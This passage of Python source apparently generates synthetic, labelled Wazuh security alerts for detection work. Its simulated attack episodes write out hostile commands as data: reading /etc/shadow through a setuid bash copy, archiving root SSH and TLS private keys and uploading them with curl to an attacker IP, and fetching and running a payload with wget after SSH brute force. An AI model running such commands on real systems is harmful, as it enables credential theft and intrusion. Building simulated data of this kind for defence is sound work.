            user = "svc-backup" if "svc-backup" in h.users else r.choice(ADMINS)
            u = _Actor(h, user, auid=h.uid(user), ses=h.next_ses(), tty="pts/1", pid=h.next_pid(r))
        sh = self.run(c, u, ["/usr/local/bin/.sh", "-p"], euser="root", gap=(1, 5))
        esc = _Actor(h, u.user, auid=u.auid, ses=u.ses, tty=u.tty, cwd=u.cwd, pid=sh, euser="root", ppid=u.pid)
        for argv in (["id"], ["cat", "/etc/shadow"], ["whoami"]):
            self.run(c, esc, argv, gap=(2, 20))
        return f"setuid copy of bash at /usr/local/bin/.sh on {h.name}, then used by {u.user}"

    def _ep_unusual_login_sudo(self, c: _Cur, h: _Host) -> str:
        r = c.r
        ip = self._attacker_ip(r)
        adm = r.choice(ADMINS)
        a = self.ssh_login(c, h, adm, ip)
        for argv in (["id"], ["w"], ["last", "-n", "20"]):
            self.run(c, a, argv, gap=(2, 15))
        root, _sp = self.sudo_open(c, a, ["su", "-"], command="/usr/bin/su -")
        su = self.run(c, root, ["su", "-"], gap=(0.02, 0.1))
        self.syslog(c.t, h, "5303", "su", su, f"+ /dev/{a.tty} root:root", {"parent": "su", "name": "su"},
                    {"srcuser": "root", "dstuser": "root"})
        c.adv(0.005, 0.02)
        self.syslog(c.t, h, "5501", "su", su, f"pam_unix(su-l:session): session opened for user root by {adm}(uid=0)",
                    _DEC_PAM, {"srcuser": adm, "dstuser": "root", "uid": "0"})
        sh = _Actor(h, "root", auid=a.auid, ses=a.ses, tty=a.tty, cwd="/root", pid=su, ppid=root.pid)
        sh.pid = self.run(c, sh, ["-bash"], ppid=su, gap=(1, 5))
        others = [x for x in self.hosts if x is not h and not x.is_manager and x.role != "workstation"]
        cmds = [["cat", "/etc/shadow"], ["ls", "-la", "/root/.ssh"], ["cat", "/root/.ssh/id_rsa"], ["ss", "-tnp"],
                ["tar", "czf", "/tmp/.k.tgz", "/etc/ssl/private", "/root/.ssh"],
                ["curl", "-s", "-T", "/tmp/.k.tgz", f"http://{ip}:8080/"]]
        if others:
            cmds.insert(4, ["ssh", "-o", "StrictHostKeyChecking=no", f"root@{r.choice(others).ip}", "id"])
        for argv in cmds[:r.randrange(4, len(cmds) + 1)]:
            self.run(c, sh, argv, gap=(4, 40))
        self.fim(c, h, "/root/.bash_history", "modify", self.who(sh, "/usr/bin/bash", sh.pid, "/usr/bin/su"))
        c.adv(0.05, 0.3)
        self.syslog(c.t, h, "5502", "su", su, "pam_unix(su-l:session): session closed for user root", _DEC_PAM,
                    {"dstuser": "root"})
        c.adv(0.05, 0.3)
        self.sudo_close(c, a)
        self.ssh_logout(c, a)
        return f"{adm} logged in to {h.name} from unseen {ip} at night, then sudo su -"

    def _ep_ssh_bruteforce_success(self, c: _Cur, h: _Host) -> str:
        r = c.r
        ip = self._attacker_ip(r)
        target = "svc-backup" if "svc-backup" in h.users else next((u for u in ADMINS if u in h.users), "root")
        attempts = []
        t = c.t
        tries = 0
        for _ in range(r.randrange(60, 160)):
            t += r.randrange(600, 3500)
            x = r.random()
            user = "root" if x < 0.4 else (target if x < 0.6 else r.choice(_SSH_WORDLIST))
            pid = h.next_pid(r)
            port = r.randrange(30000, 65000)
            if user in h.users:
                attempts.append((t, "failed", user, ip, port, pid))
                tries += 1
                if tries >= 6:
                    attempts.append((t + r.randrange(50, 400), "maxauth", user, ip, port, pid))
                    tries = 0
            else:
                attempts.append((t, "invalid", user, ip, port, pid))
                attempts.append((t + r.randrange(500, 2500), "failed_invalid", user, ip, port, pid))
        self.ssh_attempts(h, attempts)
        c.t = t + r.randrange(3000, 20000)
        a = self.ssh_login(c, h, target, ip, method="password")
        for argv in (["id"], ["uname", "-a"], ["cat", "/etc/os-release"], ["w"]):
            self.run(c, a, argv, gap=(2, 15))
        wg = self.run(c, a, ["wget", "-q", f"http://{ip}/.b", "-O", "/tmp/.b"], gap=(1, 6))
        self.fim(c, h, "/tmp/.b", "add", self.who(a, "/usr/bin/wget", wg), owner=target, size=r.randrange(9000, 900000))
        ch = self.run(c, a, ["chmod", "+x", "/tmp/.b"], gap=(0.5, 3))
        self.fim(c, h, "/tmp/.b", "chmod", self.who(a, "/usr/bin/chmod", ch), perm="rwxr-xr-x")
        self.run(c, a, ["/tmp/.b"], path="/tmp/.b", gap=(5, 40))
        self.ssh_logout(c, a)
        return f"ssh brute force on {h.name} from {ip}, then a successful password login as {target}"

    def _ep_web_scan_flood(self, c: _Cur, h: _Host) -> str:
        r = c.r
        ip = self._attacker_ip(r)
        ua = r.choice(_SCANNER_UAS)
        reqs = []
        t = c.t
        exts = ("", ".php", "/", ".bak", ".txt", ".old", ".zip")
        for _ in range(r.randrange(250, 650)):
            t += r.randrange(40, 260)
            word = r.choice(_DIRB_WORDS)
            url = "/" + word + r.choice(exts)
            status = 403 if word.startswith((".ht", "server-status", "cgi-bin")) else (301 if word in ("admin", "login")
                                                                                          else 404)
            reqs.append((t, ip, r.choice(("GET", "GET", "HEAD")), url, status, r.randrange(150, 600), "-", ua))
        self.web_requests(h, reqs)
        return f"directory brute force against {h.name} from {ip} ({len(reqs)} requests)"


# ----------------------------------------------------------------------------- catalogues

_HOURS = tuple(range(24))
_OFFICE_W = (0.01, 0.01, 0.01, 0.01, 0.01, 0.02, 0.05, 0.25, 0.7, 1.0, 1.0, 0.95, 0.6, 0.9, 1.0, 1.0, 0.9, 0.6, 0.3,
             0.15, 0.1, 0.08, 0.05, 0.02)
_WEEKEND_W = (0.05, 0.03, 0.02, 0.02, 0.02, 0.02, 0.03, 0.05, 0.1, 0.2, 0.3, 0.35, 0.35, 0.35, 0.35, 0.3, 0.3, 0.3, 0.3,
              0.3, 0.25, 0.2, 0.15, 0.08)


def _cum(ws: Sequence[float]) -> Tuple[float, ...]:
    out, s = [], 0.0
    for w in ws:
        s += w
        out.append(s)
    return tuple(out)


_OFFICE_CUM = _cum(_OFFICE_W)
_WEEKEND_CUM = _cum(_WEEKEND_W)

_ROOTCHECK_FP = {
    "ci": (("Trojaned version of file detected.", "/bin/diff",
            "Trojaned version of file '/bin/diff' detected. Signature used: "
            "'bash|^/bin/sh|file\\.h|proc\\.h|/dev/[^n]|^/bin/.*sh' (Generic)."),),
    "workstation": (("Trojaned version of file detected.", "/bin/grep",
                     "Trojaned version of file '/bin/grep' detected. Signature used: 'bash|givemer|/dev/' (Generic)."),),
}

_BOT_PATHS = (
    "/wp-login.php", "/xmlrpc.php", "/.env", "/.git/config", "/.git/HEAD", "/phpmyadmin/", "/pma/",
    "/admin/config.php", "/boaform/admin/formLogin", "/actuator/health", "/actuator/env",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/cgi-bin/luci", "/HNAP1/", "/solr/admin/info/system",
    "/.aws/credentials", "/config.json", "/server-status", "/owa/auth/logon.aspx", "/remote/login", "/manager/html",
    "/console/", "/api/jsonws/invoke", "/_ignition/execute-solution", "/wp-content/plugins/wp-file-manager/readme.txt",
    "/.DS_Store", "/backup.zip", "/db.sql", "/shell.php", "/geoserver/web/", "/druid/index.html", "/jenkins/login",
    "/webui/", "/Autodiscover/Autodiscover.xml", "/.htaccess", "/wp-includes/wlwmanifest.xml", "/telescope/requests",
    "/debug/default/view", "/.vscode/sftp.json", "/info.php", "/sftp-config.json", "/laravel/.env", "/api/.env",
)
_USER_404 = (
    "/blog/2019/03/summer-sale", "/shop/item/4411", "/images/banner-old.png", "/apple-touch-icon-precomposed.png",
    "/favicon.ico", "/old-catalog.pdf", "/en/contact", "/products/discontinued-widget", "/checkout/step2",
    "/cart/undefined", "/assets/app.3f9a1c2e.js.map", "/static/js/main.chunk.js", "/account/orders/undefined",
    "/null", "/.well-known/apple-app-site-association", "/ads.txt", "/sitemap_index.xml", "/feed/", "/de/impressum",
    "/shop/category/winter-2022", "/newsletter/unsubscribe?id=undefined", "/product/7781/reviews?page=99",
)
_BROWSER_UAS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
    "Mozilla/5.0 (Linux; Android 14; Pixel 7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.6099.43 Mobile Safari/537.36",
)
_BOT_UAS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0.4044.129 Safari/537.36",
    "python-requests/2.28.1", "Go-http-client/1.1", "curl/7.88.1", "Mozilla/5.0 zgrab/0.x",
    "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)", "l9explore/1.2.2",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.108 Safari/537.36",
)
_ATTACK_UAS = (
    "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:120.0) Gecko/20100101 Firefox/120.0", "python-requests/2.31.0",
)
_SCANNER_UAS = ("gobuster/3.6", "Mozilla/5.0 (compatible; dirb/2.22)", "feroxbuster/2.10.1",
                "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
                "Fuzz Faster U Fool v2.1.0-dev")
_RECON_PATHS = ("/upload.php", "/admin/upload", "/api/v1/files", "/uploads/", "/phpinfo.php", "/.env", "/admin/",
                "/filemanager/", "/wp-admin/admin-ajax.php", "/media/upload")
_DIRB_WORDS = (
    ".bash_history", ".git/HEAD", ".htaccess", ".htpasswd", ".svn/entries", "admin", "administrator", "api", "app",
    "archive", "assets", "auth", "backup", "backups", "bin", "blog", "cache", "cgi-bin/", "config", "console", "cpanel",
    "css", "dashboard", "data", "db", "debug", "default", "demo", "dev", "docs", "download", "downloads", "dump",
    "editor", "error", "errors", "export", "files", "forum", "ftp", "home", "images", "img", "include", "includes",
    "index", "info", "install", "js", "lib", "log", "login", "logs", "mail", "manager", "media", "old", "panel",
    "phpmyadmin", "portal", "private", "public", "register", "remote", "reports", "scripts", "secret", "server-status",
    "setup", "shop", "site", "sql", "static", "stats", "status", "system", "temp", "test", "tmp", "tools", "upload",
    "uploads", "user", "users", "vendor", "web", "webadmin", "wp", "wp-admin", "wp-content", "xml", "phpinfo", "shell",
    "cmd", "root", "sites", "storage", "swagger", "graphql", "jenkins", "jira", "kibana", "grafana", "metrics",
    "monitor", "nagios", "owa", "adminer", "pgadmin", "webmail", "roundcube", "zabbix", "solr", "elastic",
)
_SSH_WORDLIST = (
    "admin", "test", "user", "ubuntu", "oracle", "postgres", "git", "ftpuser", "pi", "guest", "support", "jenkins",
    "hadoop", "minecraft", "steam", "ansible", "centos", "ec2-user", "dev", "www", "mysql", "nagios", "tomcat",
    "user1", "administrator", "deploy", "debian", "teamspeak", "ts3", "zabbix", "elastic", "es", "kafka", "redis",
    "mongo", "docker", "test1", "testuser", "odoo", "sonar", "gitlab", "backup", "server", "vagrant", "azureuser",
    "solana", "sol", "ubnt", "dolphinscheduler", "root",
)
_MAIL_PROBE_USERS = ("admin", "info", "test", "support", "sales", "contact", "office", "webmaster", "postmaster",
                     "alice", "bob", "hr", "marketing")
_CI_PROJECTS = (("web", "webapp", "node"), ("backend", "api", "go"), ("platform", "libfoo", "c"),
                ("ops", "tools", "python"))
_C_SOURCES = ("parser", "lexer", "ast", "eval", "hash", "map", "vec", "str", "io", "alloc", "log", "cli", "config",
              "net", "crc32", "base64", "utf8", "json", "arena", "queue", "timer", "pool")
_GO_PACKAGES = tuple(f"example.internal/api/internal/{p}" for p in (
    "auth", "store", "store/postgres", "http", "http/middleware", "orders", "payments", "catalog", "config", "metrics",
    "mail", "queue", "cache")) + (
    "github.com/go-chi/chi/v5", "github.com/go-chi/chi/v5/middleware", "github.com/jackc/pgx/v5",
    "github.com/jackc/pgx/v5/pgxpool", "github.com/jackc/puddle/v2", "golang.org/x/crypto/bcrypt",
    "golang.org/x/crypto/blowfish", "golang.org/x/text/unicode/norm", "github.com/prometheus/client_golang/prometheus",
    "github.com/rs/zerolog", "google.golang.org/protobuf/proto", "example.internal/api/cmd/api",
)
_NPM_POSTINSTALL = (
    ("esbuild", "node install.js"), ("husky", "husky install"), ("protobufjs", "node scripts/postinstall"),
    ("core-js", "node -e \"try{require('./postinstall')}catch(e){}\""), ("sharp", "node install/check"),
    ("puppeteer", "node install.mjs"), ("nodemon", "node bin/postinstall || exit 0"),
    ("es5-ext", "node -e \"try{require('./_postinstall')}catch(e){}\""), ("cypress", "node index.js --exec install"),
)
_PYTEST_SUBPROCS = (
    ("git", "rev-parse", "HEAD"), ("sh", "-c", "uname -a"), ("/usr/bin/openssl", "version"),
    ("ssh-keygen", "-t", "ed25519", "-N", "", "-f", "/tmp/pytest-of-gitlab-runner/pytest-0/test_keys0/id"),
    ("tar", "-czf", "/tmp/pytest-of-gitlab-runner/pytest-0/test_archive0/out.tgz", "."),
)
_DEV_CMDS = (
    ("git", "status"), ("git", "status"), ("git", "diff"), ("git", "add", "-A"), ("git", "commit", "-m", "fix tests"),
    ("git", "pull", "--rebase"), ("git", "push", "origin", "HEAD"), ("git", "log", "--oneline", "-20"),
    ("git", "checkout", "-b", "feature/checkout-retry"), ("make",), ("make", "test"), ("go", "test", "./..."),
    ("go", "build", "./..."), ("python3", "-m", "pytest", "-q"), ("node", "/usr/bin/npm", "run", "dev"),
    ("docker", "compose", "up", "-d"), ("docker", "ps"), ("docker", "logs", "--tail", "100", "api"), ("ls", "-la"),
    ("ls",), ("cat", "README.md"), ("grep", "-rn", "TODO", "src"), ("less", "app.log"), ("vim", "main.go"),
    ("code", "."), ("curl", "-s", "http://localhost:8080/health"), ("kubectl", "get", "pods", "-n", "staging"),
    ("htop",), ("find", ".", "-name", "*.pyc", "-delete"), ("ssh", "git@gitlab.example.internal"),
    ("jq", ".items[].metadata.name"), ("tail", "-f", "logs/dev.log"),
)
_ADMIN_PREF = {"alice": ("web", "manager", "mail"), "bob": ("db", "mail"), "carol": ("ci", "web"), "dave": ROLES,
               "erin": ("web", "db")}
_TASKS = {"web-nginx": ("nginx_reload", "nginx_edit"), "web-apache": ("apache_reload", "apache_edit"),
          "db": ("psql", "pg_edit", "psql"), "mail": ("mailq",), "ci": ("docker",), "manager": ("wazuh",)}
_CHECK_CMDS = (("df", "-h"), ("free", "-m"), ("uptime",), ("top", "-bn1"), ("ls", "-la"), ("systemctl", "--failed"),
               ("ss", "-s"), ("last", "-n", "10"), ("ip", "-br", "a"), ("du", "-sh", "/var/log"))
_ROOT_CMDS = (("systemctl", "status", "--no-pager"), ("journalctl", "-xe", "--no-pager"), ("ls", "-la", "/etc"),
              ("cat", "/etc/fstab"), ("df", "-i"), ("apt", "list", "--upgradable"), ("lsof", "-i"), ("ps", "auxf"),
              ("du", "-sh", "/var/lib"), ("ufw", "status"))
_BASTION_CMDS = (("ls",), ("git", "-C", "infra", "pull", "--ff-only"), ("tmux", "attach"), ("cat", "notes.md"),
                 ("ssh-add", "-l"))
_DISCOVERY_CMDS = (["uname", "-a"], ["hostname"], ["ls", "-la"], ["cat", "/etc/os-release"],
                   ["which", "gcc", "python3", "perl", "curl", "wget"], ["ps", "-ef"], ["netstat", "-antp"],
                   ["cat", "/etc/passwd"], ["ip", "a"])
_ODD_UNITS = ("dbus-org.freedesktop.network1-helper.service", "systemd-timesyncd-update.service",
              "kworker-update.service", "snapd-refresh.service", "apt-daily-check.service")
_EPISODE_HOSTS = {
    "web_shell": ("web",), "reverse_shell": ("web",), "persistence": ("web", "db", "mail", "bastion"),
    "uid0_user": ("db", "web", "mail", "bastion"), "ssh_key_backdoor": ("bastion", "web", "db", "mail"),
    "miner": ("web", "ci", "db"), "log_wiping": ("db", "web", "mail", "bastion"), "suid_shell": ("web", "db", "mail"),
    "unusual_login_sudo": ("bastion", "mail"), "ssh_bruteforce_success": ("bastion", "mail"), "web_scan_flood": ("web",),
}

_LIB = "/usr/lib/x86_64-linux-gnu/"
# (package, version, files FIM watches, roles it is installed on (None = all), security pocket?)
_PACKAGES: Tuple[tuple, ...] = (
    ("openssl", "1.1.1f-1ubuntu2.19", ("/usr/bin/openssl",), None, True),
    ("libssl1.1", "1.1.1f-1ubuntu2.19", (_LIB + "libssl.so.1.1", _LIB + "libcrypto.so.1.1"), None, True),
    ("curl", "7.68.0-1ubuntu2.18", ("/usr/bin/curl",), None, True),
    ("libcurl4", "7.68.0-1ubuntu2.18", (_LIB + "libcurl.so.4.6.0",), None, True),
    ("sudo", "1.8.31-1ubuntu1.5", ("/usr/bin/sudo", "/usr/bin/sudoreplay", "/usr/sbin/visudo",
                                   "/usr/lib/sudo/sudoers.so"), None, True),
    ("openssh-client", "1:8.2p1-4ubuntu0.9", ("/usr/bin/ssh", "/usr/bin/scp", "/usr/bin/sftp", "/usr/bin/ssh-add",
                                              "/usr/bin/ssh-agent", "/usr/bin/ssh-keygen", "/usr/bin/ssh-keyscan"),
     None, True),
    ("openssh-server", "1:8.2p1-4ubuntu0.9", ("/usr/sbin/sshd", "/usr/lib/openssh/sftp-server"),
     ("web", "db", "bastion", "ci", "mail", "manager"), True),
    ("libc6", "2.31-0ubuntu9.12", (_LIB + "libc-2.31.so", _LIB + "libm-2.31.so", _LIB + "libpthread-2.31.so",
                                   _LIB + "libdl-2.31.so", _LIB + "librt-2.31.so", _LIB + "ld-2.31.so",
                                   "/usr/bin/ldd", "/usr/bin/getent", "/usr/bin/iconv", "/usr/sbin/iconvconfig"),
     None, True),
    ("libc-bin", "2.31-0ubuntu9.12", ("/usr/bin/locale", "/usr/bin/localedef", "/usr/sbin/ldconfig.real",
                                      "/usr/bin/getconf"), None, True),
    ("bash", "5.0-6ubuntu1.2", ("/usr/bin/bash",), None, False),
    ("coreutils", "8.30-3ubuntu2", tuple(f"/usr/bin/{x}" for x in (
        "ls", "cat", "cp", "mv", "rm", "chmod", "chown", "mkdir", "ln", "date", "df", "du", "echo", "env", "head",
        "tail", "sort", "uniq", "wc", "tr", "cut", "tee", "touch", "stat", "id", "whoami", "uname", "sleep", "true",
        "false", "dirname", "basename", "readlink", "realpath", "nohup", "timeout")), None, False),
    ("systemd", "245.4-4ubuntu3.22", ("/usr/bin/systemctl", "/usr/bin/journalctl", "/usr/bin/loginctl",
                                      "/usr/bin/hostnamectl", "/usr/bin/timedatectl", "/usr/lib/systemd/systemd",
                                      "/usr/lib/systemd/systemd-journald", "/usr/lib/systemd/systemd-logind",
                                      "/usr/lib/systemd/libsystemd-shared-245.so"), None, False),
    ("libsystemd0", "245.4-4ubuntu3.22", (_LIB + "libsystemd.so.0.28.0",), None, False),
    ("vim", "2:8.1.2269-1ubuntu5.17", ("/usr/bin/vim.basic",), None, True),
    ("vim-common", "2:8.1.2269-1ubuntu5.17", ("/usr/bin/xxd",), None, True),
    ("git", "1:2.25.1-1ubuntu3.11", ("/usr/bin/git", "/usr/lib/git-core/git-remote-http",
                                     "/usr/lib/git-core/git-shell", "/usr/lib/git-core/git-daemon"), None, True),
    ("python3.8", "3.8.10-0ubuntu1~20.04.8", ("/usr/bin/python3.8",), None, True),
    ("libpython3.8-stdlib", "3.8.10-0ubuntu1~20.04.8", ("/usr/lib/python3.8/ssl.py", "/usr/lib/python3.8/http/client.py",
                                                        "/usr/lib/python3.8/urllib/parse.py",
                                                        "/usr/lib/python3.8/email/_header_value_parser.py"), None, True),
    ("tar", "1.30+dfsg-7ubuntu0.20.04.3", ("/usr/bin/tar",), None, True),
    ("rsync", "3.1.3-8ubuntu0.7", ("/usr/bin/rsync",), None, True),
    ("libxml2", "2.9.10+dfsg-5ubuntu0.20.04.6", (_LIB + "libxml2.so.2.9.10",), None, True),
    ("libexpat1", "2.2.9-1ubuntu0.6", (_LIB + "libexpat.so.1.6.11",), None, True),
    ("libsqlite3-0", "3.31.1-4ubuntu0.5", (_LIB + "libsqlite3.so.0.8.6",), None, True),
    ("libgnutls30", "3.6.13-2ubuntu1.9", (_LIB + "libgnutls.so.30.27.0",), None, True),
    ("libpam-modules", "1.3.1-5ubuntu4.6", (_LIB + "security/pam_unix.so", _LIB + "security/pam_env.so",
                                            _LIB + "security/pam_limits.so", "/usr/sbin/unix_chkpwd"), None, True),
    ("passwd", "1:4.8.1-1ubuntu5.20.04.4", ("/usr/sbin/useradd", "/usr/sbin/usermod", "/usr/sbin/userdel",
                                            "/usr/sbin/chpasswd", "/usr/bin/passwd", "/usr/bin/chsh", "/usr/bin/chage"),
     None, False),
    ("util-linux", "2.34-0.1ubuntu9.4", ("/usr/bin/su", "/usr/bin/mount", "/usr/bin/umount", "/usr/bin/lsblk",
                                         "/usr/sbin/fstrim", "/usr/bin/dmesg"), None, False),
    ("nginx-core", "1.18.0-0ubuntu1.4", ("/usr/sbin/nginx",), ("web-nginx",), True),
    ("php7.4-fpm", "7.4.3-4ubuntu2.19", ("/usr/sbin/php-fpm7.4",), ("web-nginx",), True),
    ("php7.4-cli", "7.4.3-4ubuntu2.19", ("/usr/bin/php7.4",), ("web",), True),
    ("libapache2-mod-php7.4", "7.4.3-4ubuntu2.19", ("/usr/lib/apache2/modules/libphp7.4.so",), ("web-apache",), True),
    ("apache2-bin", "2.4.41-4ubuntu3.14", ("/usr/sbin/apache2", "/usr/lib/apache2/modules/mod_ssl.so",
                                          "/usr/lib/apache2/modules/mod_rewrite.so"), ("web-apache",), True),
    ("postgresql-12", "12.16-0ubuntu0.20.04.1", tuple(f"/usr/lib/postgresql/12/bin/{x}" for x in (
        "postgres", "pg_dump", "pg_restore", "psql", "vacuumdb", "pg_ctl")), ("db",), True),
    ("postfix", "3.4.13-0ubuntu1.3", ("/usr/sbin/postfix", "/usr/sbin/postqueue", "/usr/sbin/sendmail",
                                      "/usr/lib/postfix/sbin/smtpd", "/usr/lib/postfix/sbin/qmgr"), ("mail",), True),
    ("dovecot-core", "1:2.3.7.2-1ubuntu3.6", ("/usr/sbin/dovecot", "/usr/lib/dovecot/imap", "/usr/lib/dovecot/imap-login",
                                              "/usr/lib/dovecot/auth"), ("mail",), True),
    ("docker-ce", "5:24.0.7-1~ubuntu.20.04~focal", ("/usr/bin/dockerd", "/usr/bin/docker-proxy"), ("ci",), False),
    ("docker-ce-cli", "5:24.0.7-1~ubuntu.20.04~focal", ("/usr/bin/docker",), ("ci",), False),
    ("containerd.io", "1.6.25-1", ("/usr/bin/containerd", "/usr/bin/containerd-shim-runc-v2", "/usr/bin/ctr",
                                   "/usr/bin/runc"), ("ci",), False),
    ("gitlab-runner", "16.5.0", ("/usr/bin/gitlab-runner",), ("ci",), False),
    ("nodejs", "18.19.0-1nodesource1", ("/usr/bin/node",), ("ci", "workstation"), False),
)
_KERNEL = ("linux-image", "", (), None, False)
_WAZUH_AGENT = ("wazuh-agent", "4.8.2-1", (), None, False)
_TOOLS = (
    ("htop", "2.2.0-2build1", ("/usr/bin/htop",), None, False),
    ("jq", "1.6-1ubuntu0.20.04.1", ("/usr/bin/jq", _LIB + "libjq.so.1.0.4", _LIB + "libonig.so.5.1.0"), None, False),
    ("ncdu", "1.14.1-1", ("/usr/bin/ncdu",), None, False),
    ("tcpdump", "4.9.3-4ubuntu0.2", ("/usr/sbin/tcpdump",), None, False),
    ("strace", "5.5-3ubuntu1", ("/usr/bin/strace",), None, False),
    ("nmap", "7.80+dfsg1-2ubuntu0.1", ("/usr/bin/nmap", "/usr/bin/ncat", "/usr/bin/nping"), None, False),
    ("socat", "1.7.3.3-2", ("/usr/bin/socat",), None, False),
    ("netcat-traditional", "1.10-41.1", ("/usr/bin/nc.traditional",), None, False),
)

_RELEASE_TEMPLATE = (
    "public/index.php", "public/.htaccess", "public/robots.txt", "public/favicon.ico", "public/build/manifest.json",
    "public/build/entrypoints.json", "public/build/app.{h}.js", "public/build/app.{h}.css", "public/build/runtime.{h}.js",
    "public/build/vendors.{h}.js", "bin/console", "composer.json", "composer.lock", "symfony.lock", "config/bundles.php",
    "config/services.yaml", "config/routes.yaml", "config/packages/framework.yaml", "config/packages/doctrine.yaml",
    "config/packages/security.yaml", "config/packages/twig.yaml", "config/packages/monolog.yaml", "src/Kernel.php",
) + tuple(f"src/Controller/{x}Controller.php" for x in ("Home", "Product", "Cart", "Checkout", "Account", "Api/Order",
                                                          "Api/Payment", "Admin/Dashboard")) + tuple(
    f"src/Entity/{x}.php" for x in ("Product", "Order", "OrderLine", "Customer", "Payment", "Address")) + tuple(
    f"src/Repository/{x}Repository.php" for x in ("Product", "Order", "Customer", "Payment")) + tuple(
    f"src/Service/{x}.php" for x in ("PriceCalculator", "Mailer", "PaymentGateway", "StockService", "Thumbnailer")) + tuple(
    f"templates/{x}.html.twig" for x in ("base", "home/index", "product/show", "product/list", "cart/index",
                                        "checkout/index", "checkout/done", "account/orders", "admin/dashboard")) + (
    "translations/messages.en.yaml", "translations/messages.de.yaml", "vendor/autoload.php",
    "vendor/composer/autoload_classmap.php", "vendor/composer/autoload_real.php", "vendor/composer/autoload_static.php",
    "vendor/composer/installed.json", "REVISION")

_release_cache: Dict[str, tuple] = {}


def _release_files(sha: str) -> tuple:
    """The files of one release of the web app: (relative path, content key, size)."""
    got = _release_cache.get(sha)
    if got is not None:
        return got
    rr = random.Random("release:" + sha)
    out = []
    for tpl in _RELEASE_TEMPLATE:
        rel = tpl.replace("{h}", sha[:8])
        changed = "{h}" in tpl or rel in ("REVISION", "composer.lock") or rr.random() < 0.2
        key = f"rel|{rel}|{sha if changed else 'base'}"
        out.append((rel, key, 120 + _stable_int(key, 90_000)))
    got = tuple(out)
    if len(_release_cache) > 256:
        _release_cache.clear()
    _release_cache[sha] = got
    return got


def _bump_version(v: str) -> str:
    m = re.search(r"(\d+)(\D*)$", v)
    if not m:
        return v + ".1"
    return v[:m.start(1)] + str(int(m.group(1)) + 1) + m.group(2)


def _fmt_ts(t: int) -> str:
    sec, ms = divmod(int(t), 1000)
    return time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(sec)) + f".{ms:03d}+0000"


# ----------------------------------------------------------------------------- public API

def generate(config: FleetConfig) -> Iterator[Dict[str, Any]]:
    """Alerts of the whole period, in time order, each with its ``_label``. Deterministic for a
    given configuration (seed, start, hosts, scale...). The configuration is checked now."""
    world = _World(config)
    return _emit_all(world)


def _emit_all(world: _World) -> Iterator[Dict[str, Any]]:
    for p in world.episode_plans():
        world._bucket(p["events"], (p["episode"], p["kind"]))
    for d in range(world.days):
        world.plan_day(d)
        events = world.buckets.pop(d, [])
        events.sort(key=lambda e: (e[0], e[1]))
        for t, _seq, fn, args, label in events:
            alert = fn(t, *args)
            if label is None:
                alert[LABEL_KEY] = {"attack": False, "episode": "-", "kind": "-"}
            else:
                alert[LABEL_KEY] = {"attack": True, "episode": label[0], "kind": label[1]}
            yield alert


def episodes(config: FleetConfig) -> List[Dict[str, Any]]:
    """The attack episodes :func:`generate` plants for ``config``: ``episode`` ("kind#n"),
    ``kind``, ``host`` (the target) and its ``agent_id``, ``hosts`` (every host with an alert
    of the episode: the attacker may come in through the bastion), ``start`` / ``end``
    (timestamps of its first and last alert, formatted like ``alert["timestamp"]``),
    ``n_alerts`` and a ``description``."""
    world = _World(config)
    out = []
    for p in world.episode_plans():
        ts = [e[0] for e in p["events"]]
        out.append({
            "episode": p["episode"],
            "kind": p["kind"],
            "host": p["host"].name,
            "agent_id": p["host"].agent_id,
            "hosts": sorted({e[2][0].name for e in p["events"]}),
            "start": _fmt_ts(min(ts)) if ts else None,
            "end": _fmt_ts(max(ts)) if ts else None,
            "n_alerts": len(ts),
            "description": p["description"],
        })
    return out


def strip_labels(alerts: Iterable[Dict[str, Any]]) -> Iterator[Dict[str, Any]]:
    """The alerts without their ``_label`` (what a Wazuh manager would have written)."""
    for a in alerts:
        if LABEL_KEY in a:
            a = {k: v for k, v in a.items() if k != LABEL_KEY}
        yield a


def _dumps(alert: Dict[str, Any]) -> str:
    return json.dumps(alert, ensure_ascii=False, separators=(",", ":"))


def write_jsonl(path: "os.PathLike[str] | str", alerts: Iterable[Dict[str, Any]], *, gzip: Optional[bool] = None) -> int:
    """Write one alert per line (compact JSON, as analysisd does); ``gzip`` defaults to the
    ``.gz`` suffix. ``path`` ``-`` writes to stdout. Written to a temporary file and renamed, so
    a failure never leaves half a file. Returns the number of alerts written."""
    path = os.fspath(path)
    n = 0
    if path == "-":
        out = sys.stdout
        for a in alerts:
            out.write(_dumps(a) + "\n")
            n += 1
        out.flush()
        return n
    use_gz = path.endswith(".gz") if gzip is None else bool(gzip)
    tmp = f"{path}.tmp-{os.getpid()}"
    try:
        if use_gz:
            fh = _gzip.open(tmp, "wt", encoding="utf-8", newline="\n", compresslevel=6)
        else:
            fh = open(tmp, "w", encoding="utf-8", newline="\n")
        with fh:
            for a in alerts:
                fh.write(_dumps(a) + "\n")
                n += 1
        os.replace(tmp, path)
    except BaseException:
        try:
            os.unlink(tmp)
        except OSError:
            pass
        raise
    return n


def write_archive_tree(root: "os.PathLike[str] | str", alerts: Iterable[Dict[str, Any]], *,
                       today_as_alerts_json: bool = True, part_lines: Optional[int] = None) -> Dict[str, Any]:
    """Lay alerts out the way a manager keeps them under ``root/logs/alerts``.

    Past days go to ``YYYY/Mon/ossec-alerts-DD.json.gz`` (gzipped by monitord after midnight).
    If the last day is today (UTC) and ``today_as_alerts_json``, it stays uncompressed as
